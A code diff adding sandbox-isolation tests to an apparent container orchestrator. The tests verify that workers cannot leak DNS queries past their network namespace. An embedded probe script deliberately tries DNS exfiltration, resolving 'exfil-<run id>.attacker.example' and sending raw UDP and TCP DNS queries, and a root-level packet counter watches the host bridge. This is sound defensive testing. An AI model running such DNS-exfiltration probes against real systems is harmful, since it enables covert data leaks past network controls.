@@ -15,6 +15,7 @@ import http.server
 import json
 import os
 import socket
+import struct
 import subprocess
 import sys
 import textwrap
@@ -1475,3 +1476,176 @@ def test_a_flood_of_denied_requests_erases_no_decision_and_stops_no_later_run(
     assert last_json(late.json()["stdout"])["late"][:2] == ["ok", 200]
     assert ("allowed.test", True) in _decisions_of(audit, late.json()["run_id"])
     print(f"flood: {sent}, run {took:.1f} s, audit +{grown} bytes, {entry.metadata}")
+
+
+#: Tells its run id in /meet/ready.json, waits for /meet/go, then looks an outside name
+#: up every way it can (the C library, UDP and TCP straight to the engine's DNS), finds
+#: its proxy by name, fetches through it, and sends one datagram to its gateway's port 9
+#: (the control: it leaves the namespace). Reports in one JSON line.
+DNS_PROBE = r"""
+import json, os, socket, struct, time, urllib.request
+run = os.environ["ORCHESTRATOR_RUN_ID"]
+with open("/meet/ready.tmp", "w") as handle:
+    json.dump({"run": run}, handle)
+os.rename("/meet/ready.tmp", "/meet/ready.json")
+end = time.time() + 120
+while not os.path.exists("/meet/go") and time.time() < end:
+    time.sleep(0.05)
+out = {"resolv": open("/etc/resolv.conf").read().split(), "nets": sorted(name for _, name in socket.if_nameindex())}
+started = time.time()
+try:
+    socket.getaddrinfo("exfil-%s.attacker.example" % run, 80)
+    out["lookup"] = "resolved"
+except OSError:
+    out["lookup"] = "failed"
+out["lookup_s"] = time.time() - started
+name = b"".join(bytes([len(p)]) + p for p in (b"exfil-raw", run.encode()[:20], b"example"))
+query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)
+for kind in ("udp", "tcp"):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
+    sock.settimeout(4)
+    try:
+        if kind == "udp":
+            sock.sendto(query, ("127.0.0.11", 53))
+            answer = sock.recv(512)
+        else:
+            sock.connect(("127.0.0.11", 53))
+            sock.sendall(struct.pack("!H", len(query)) + query)
+            answer = sock.recv(514)[2:]
+        out[kind] = "rcode %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
+    except OSError as exc:
+        out[kind] = type(exc).__name__
+    finally:
+        sock.close()
+if os.environ.get("HTTP_PROXY"):
+    out["proxy"] = socket.gethostbyname("proxy")
+    with urllib.request.urlopen("http://allowed.test/", timeout=15) as answer:
+        out["fetch"] = answer.status
+    gateway = None
+    for line in open("/proc/net/route").read().splitlines()[1:]:
+        fields = line.split()
+        if fields[1] == "00000000":
+            gateway = socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(3):
+        sock.sendto(b"control", (gateway, 9))
+    sock.close()
+print(json.dumps(out))
+"""
+
+
+class PortCounter:
+    """Counts IPv4 TCP and UDP packets to or from given ports on a host interface (a
+    packet socket on the bridge: what left the containers' namespaces). Needs root."""
+
+    def __init__(self, interface, ports):
+        self.counts = dict.fromkeys(ports, 0)
+        self.frames = 0
+        self._stop = threading.Event()
+        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+        self._sock.bind((interface, 0))
+        self._sock.settimeout(0.1)
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def _run(self):
+        while not self._stop.is_set():
+            try:
+                frame = self._sock.recv(65535)
+            except TimeoutError:
+                continue
+            except OSError:  # the bridge went away with its run
+                return
+            self.frames += 1
+            if len(frame) < 34 or frame[12:14] != b"\x08\x00" or frame[23] not in (6, 17):
+                continue
+            header = (frame[14] & 15) * 4
+            ports = struct.unpack("!HH", frame[14 + header : 18 + header])
+            for port in set(ports) & set(self.counts):
+                self.counts[port] += 1
+
+    def stop(self):
+        time.sleep(0.5)  # what is still on its way
+        self._stop.set()
+        self._thread.join(5)
+        self._sock.close()
+        return self.counts
+
+
+@docker
+@pytest.mark.parametrize("isolation", ISOLATIONS)
+def test_no_dns_query_leaves_an_allowlisted_worker_s_namespace(
+    engine, internet, project, isolation
+):
+    """An allowlisted worker looks an outside name up (the C library, and UDP and TCP
+    straight to the engine's DNS at 127.0.0.11): no packet to or from port 53 crosses its
+    network's bridge on the host, while its datagram to the gateway does (the counter
+    sees what leaves), its proxy's name still resolves and fetching through it works."""
+    import hashlib
+
+    if isolation == "gvisor":
+        require_gvisor(engine)
+    assert os.geteuid() == 0, "counting packets on the bridge needs root"
+    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
+    project.isolation = isolation
+    meet = project.zone("meet", "rw")
+    command = json.dumps(["python3", "-c", DNS_PROBE])
+    project.worker(
+        "dns",
+        f"command: {command}\ntrust: session\nnetwork: {{allow: [allowed.test]}}\n"
+        "sandbox: {zones: [{name: meet, mode: rw}]}",
+    )
+    run = subprocess.Popen(
+        [sys.executable, "-m", "orchestrator", "run", "dns", "--project", str(project.root)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    counter = None
+    try:
+        assert wait_until(lambda: (meet / "ready.json").exists(), 120), run.poll()
+        run_id = json.loads((meet / "ready.json").read_text())["run"]
+        network = f"{RUN_PREFIX}{run_id}"
+        bridge = eg.BRIDGE_PREFIX + hashlib.sha256(network.encode()).hexdigest()[:11]
+        counter = PortCounter(bridge, (53, 9))
+        (meet / "go").touch()
+        out, err = run.communicate(timeout=120)
+    finally:
+        if run.poll() is None:
+            run.kill()
+            run.communicate()
+        counts = counter.stop() if counter is not None else {}
+    assert run.returncode == 0, err
+    seen = last_json(out)
+    assert seen["resolv"] == ["nameserver", "127.0.0.11", "options", "ndots:0"], seen
+    assert seen["lookup"] == "failed", seen
+    assert not seen["udp"].endswith(" 1 answers") and not seen["tcp"].endswith(" 1 answers")
+    assert seen["fetch"] == 200 and seen["proxy"].count(".") == 3, seen
+    assert counts[9] >= 3, counts  # the worker's own datagrams were seen leaving
+    assert counts[53] == 0, (counts, seen)
+
+
+@docker
+@pytest.mark.parametrize("isolation", ISOLATIONS)
+def test_a_worker_without_network_has_no_resolver(engine, project, isolation):
+    """A worker with network none has only loopback and no resolver: a lookup fails at
+    once (the host's resolver was named in its resolv.conf before)."""
+    if isolation == "gvisor":
+        require_gvisor(engine)
+    project.isolation = isolation
+    meet = project.zone("meet", "rw")
+    (meet / "go").touch()
+    command = json.dumps(["python3", "-c", DNS_PROBE])
+    project.worker(
+        "closed",
+        f"command: {command}\ntrust: session\nsandbox: {{zones: [{{name: meet, mode: rw}}]}}",
+    )
+    result = cli("run", "closed", "--project", str(project.root), "--json")
+    assert result.returncode == 0, result.stderr
+    seen = last_json(result.json()["stdout"])
+    words = seen["resolv"]
+    servers = {after for before, after in zip(words, words[1:]) if before == "nameserver"}
+    assert servers <= {"0.0.0.0"}, seen  # none, or "this host" (gVisor writes none)
+    assert seen["nets"] == ["lo"], seen
+    assert seen["lookup"] == "failed" and seen["lookup_s"] < 3, seen
+    assert seen["udp"] != "rcode 0, 1 answers" and seen["tcp"] != "rcode 0, 1 answers"
